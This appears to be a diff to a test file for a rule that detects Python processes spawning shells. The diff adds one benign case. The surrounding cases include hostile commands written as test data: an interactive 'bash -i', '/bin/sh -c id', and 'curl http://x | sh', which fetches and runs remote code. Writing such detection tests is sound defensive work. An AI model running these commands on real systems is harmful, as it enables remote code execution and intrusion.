@@ -127,6 +127,7 @@ CASES = {
         [run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3", parent_cmdline="python3 x.py"),
          run("/bin/bash", "bash -i", parent_image="/opt/conda/bin/python3.11")],
         [run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/python3"),
+         run("/usr/bin/bash", "bash /etc/cron.daily/logrotate", parent_image="/usr/bin/python3"),
          run("/bin/sh", "/bin/sh", parent_image="/usr/sbin/sshd")]),
     "6c4195e4-6bf7-4ba6-9a5b-288e5af916ad": (  # python runs a shell command
         [run("/bin/sh", "/bin/sh -c curl http://x | sh", parent_image="/usr/bin/python3")],
